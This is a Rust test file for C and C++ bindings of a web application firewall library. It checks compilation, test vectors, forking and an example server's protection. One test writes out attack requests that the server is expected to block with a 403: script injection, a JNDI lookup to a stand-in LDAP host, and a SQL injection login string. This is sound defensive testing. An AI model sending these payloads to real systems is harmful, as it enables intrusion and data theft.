//! C programs using the headers and the library, and the headers compiled as C++.

mod support;

use std::ffi::OsStr;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use support::library;

fn top() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// Runs a compiler with the headers in reach.
fn compiler(name: &str, arguments: &[&str], files: &[&Path]) -> Output {
    let mut command = Command::new(name);
    command.args(["-Wall", "-Wextra", "-Werror", "-pedantic"]).args(arguments).arg("-I").arg(top().join("include"));
    command
        .args(files)
        .output()
        .unwrap_or_else(|reason| panic!("{name} cannot be run, which these tests need: {reason}"))
}

fn succeed(output: &Output) -> String {
    let (out, err) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success(), "{out}{err}");
    out.into_owned()
}

/// Builds tests/c/NAME.c with this library, runs it with these arguments, and returns what it printed.
fn run(name: &str, library: &Path, arguments: &[PathBuf]) -> String {
    run_as(("cc", "-std=c11"), name, library, arguments)
}

fn run_as((language, standard): (&str, &str), name: &str, library: &Path, arguments: &[PathBuf]) -> String {
    let source = top().join("tests/c").join(name).with_extension("c");
    let kind = library.extension().unwrap_or_default().to_string_lossy();
    let program = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("{name}-{language}-{kind}"));
    let system = ["-lpthread", "-lm", "-ldl", "-lgcc_s"].map(Path::new);
    let dialect = ["-x", if language == "cc" { "c" } else { "c++" }].map(Path::new);
    let files =
        [&[Path::new("-o"), &program], &dialect[..], &[&source], &["-x", "none"].map(Path::new), &[library], &system];
    succeed(&compiler(language, &[standard, "-O2", "-g"], &files.concat()));
    let folder = library.parent().expect("the folder of the library");
    // `BARTIZAN_RUNNER` is a command that runs the programs, with its arguments: valgrind, for example.
    let runner = std::env::var("BARTIZAN_RUNNER").unwrap_or_default();
    let mut words = runner.split_whitespace().map(OsStr::new).chain([program.as_os_str()]);
    let mut command = Command::new(words.next().expect("a program"));
    let output = command.args(words).args(arguments).env("LD_LIBRARY_PATH", folder).output();
    succeed(&output.expect("the program runs"))
}

#[test]
fn a_c_client_works_with_the_library() {
    assert_eq!(run("client", &library(), &[]), "ok\n");
}

#[test]
fn c_and_cpp_programs_use_every_name_of_the_header() {
    let program = std::fs::read_to_string(top().join("tests/c/names.c")).expect("a program");
    let header = std::fs::read_to_string(top().join("include/ddwaf.h")).expect("a header");
    let is_name = |word: &&str| word.trim_start_matches('_').to_lowercase().starts_with("ddwaf_");
    let names = header.split(|c: char| !c.is_alphanumeric() && c != '_').filter(is_name);
    let helpers = ["DDWAF_H", "DDWAF_MAY_ALIAS"];
    for name in names.filter(|name| !helpers.contains(name)) {
        assert!(program.contains(name), "{name} is not used");
    }
    assert_eq!(run_as(("cc", "-std=c99"), "names", &library(), &[]), "ok\n");
    assert_eq!(run_as(("c++", "-std=c++11"), "names", &library(), &[]), "ok\n");
}

#[cfg(target_os = "linux")]
#[test]
fn the_archive_links_too() {
    assert_eq!(run("client", &library().with_extension("a"), &[]), "ok\n");
}

#[test]
fn the_vectors_hold_through_the_abi() {
    let vectors = ["contexts.jsonl", "engine.jsonl"].map(|name| top().join("tests/vectors").join(name));
    let texts = vectors.each_ref().map(|path| std::fs::read_to_string(path).expect("vectors"));
    let lines = || texts.iter().flat_map(|text| text.lines());
    // What JSON cannot carry, and what is no vector.
    let skipped = lines().filter(|line| line.replace("{\"$u\":", "").contains("{\"$")).count();
    let passed = lines().filter(|line| !line.starts_with("{\"rulesets\"")).count() - skipped;
    assert_eq!(run("vectors", &library(), &vectors), format!("{passed} passed, 0 failed, {skipped} skipped\n"));
}

#[test]
fn users_and_http_answer_as_recorded() {
    let names = ["sdk", "anonymize", "user_events", "client_ip", "requests"];
    let vectors = names.map(|name| top().join("tests/vectors").join(name).with_extension("jsonl"));
    let lines: usize = vectors.iter().map(|path| std::fs::read_to_string(path).expect("vectors").lines().count()).sum();
    assert_eq!(run("sdk", &library(), &vectors), format!("{lines} passed, 0 failed\n"));
}

#[test]
fn requests_are_read_as_the_table_says() {
    let vectors = top().join("tests/vectors/http_requests.jsonl");
    let lines = std::fs::read_to_string(&vectors).expect("vectors").lines().count();
    assert_eq!(run("http_requests", &library(), &[vectors]), format!("{lines} passed, 0 failed\n"));
}

#[test]
fn takeover_is_detected_as_recorded() {
    let vectors = top().join("tests/vectors/takeover.jsonl");
    let lines = std::fs::read_to_string(&vectors).expect("vectors").lines().count();
    assert_eq!(run("takeover", &library(), &[vectors]), format!("{lines} passed, 0 failed\n"));
}

#[cfg(unix)]
#[test]
fn forked_children_go_on_and_get_identifiers_of_their_own() {
    let printed = run("fork", &library(), &["200".into()]);
    let mut expected = String::from("workers: 4 children, 0 hung, 0 failed\n");
    for activity in ["evaluating", "updating", "blocking", "remote configuration"] {
        expected += &format!("{activity}: 200 children, 0 hung, 0 failed\n");
    }
    assert_eq!(printed, expected + "0 identifiers repeated\n");
}

#[test]
fn doubtful_configurations_cause_warnings() {
    let vectors = top().join("tests/vectors/warnings.jsonl");
    let text = std::fs::read_to_string(&vectors).expect("vectors");
    let skipped = text.lines().filter(|line| line.contains("\"ruleset\":true")).count();
    let passed = text.lines().count() - skipped;
    assert_eq!(run("warnings", &library(), &[vectors]), format!("{passed} passed, 0 failed, {skipped} skipped\n"));
}

/// Ends a server when the test does.
struct Server(Child, u16);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Server {
    /// Builds and starts the example server on a free port.
    fn start() -> Self {
        let library = library();
        let program = Path::new(env!("CARGO_TARGET_TMPDIR")).join("server");
        let source = top().join("ffi-c/examples/server.c");
        succeed(&compiler("cc", &["-std=c11", "-O1"], &[Path::new("-o"), &program, &source, &library]));
        let folder = library.parent().expect("the folder of the library");
        let mut command = Command::new(&program);
        let mut child =
            command.arg("0").env("LD_LIBRARY_PATH", folder).stdout(Stdio::piped()).spawn().expect("the server starts");
        let mut line = String::new();
        BufReader::new(child.stdout.as_mut().expect("its output")).read_line(&mut line).expect("a line");
        let port = line.trim().rsplit(':').next().and_then(|port| port.parse().ok());
        Self(child, port.unwrap_or_else(|| panic!("no port: {line:?}")))
    }

    /// Sends a request, and returns status and body of the answer.
    fn send(&self, request: &str) -> (u16, String) {
        let mut connection = TcpStream::connect(("127.0.0.1", self.1)).expect("a connection");
        connection.write_all(request.as_bytes()).expect("the request is sent");
        let mut answer = String::new();
        connection.read_to_string(&mut answer).expect("an answer");
        let status = answer.split(' ').nth(1).and_then(|status| status.parse().ok());
        let body = answer.split_once("\r\n\r\n").map_or("", |(_, body)| body);
        (status.unwrap_or_else(|| panic!("no status: {answer:?}")), body.to_string())
    }
}

#[cfg(target_os = "linux")]
#[test]
fn the_example_server_is_protected() {
    let server = Server::start();
    let post = |target: &str, body: &str| {
        let kind = "application/x-www-form-urlencoded";
        format!("POST {target} HTTP/1.1\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
    };
    let ok = |body: &str| (200, body.to_string());
    assert_eq!(server.send("GET /search?q=boats HTTP/1.1\r\nHost: a\r\n\r\n"), ok("hello\n"));
    assert_eq!(server.send(&post("/login", "username=bob&password=correct")), ok("welcome\n"));
    assert_eq!(server.send(&post("/login", "username=bob&password=guess")).0, 401);
    for attack in [
        "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://x.test/a}\r\n\r\n",
        &post("/login", "username='+or+1=1+union+select+password+from+users+--&password=x"),
    ] {
        let (status, body) = server.send(attack);
        assert!(status == 403 && body.contains("security_response_id"), "{attack}: {status} {body}");
    }
    for broken in
        ["GET\r\n\r\n", "GET / HTTP/1.1\r\nno colon\r\n\r\n", "POST / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n"]
    {
        assert_eq!(server.send(broken).0, 400, "{broken}");
    }
}

#[test]
fn the_headers_are_c_and_cpp() {
    for (name, standard) in [("cc", "-std=c99"), ("cc", "-std=c11"), ("c++", "-std=c++11"), ("c++", "-std=c++20")] {
        let language = if name == "cc" { "c" } else { "c++" };
        for header in ["ddwaf.h", "bartizan.h"] {
            let source = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("{header}.include"));
            std::fs::write(&source, format!("#include \"{header}\"\n#include \"{header}\"\n"))
                .expect("a writable file");
            succeed(&compiler(name, &[standard, "-fsyntax-only", "-x", language], &[&source]));
        }
    }
}
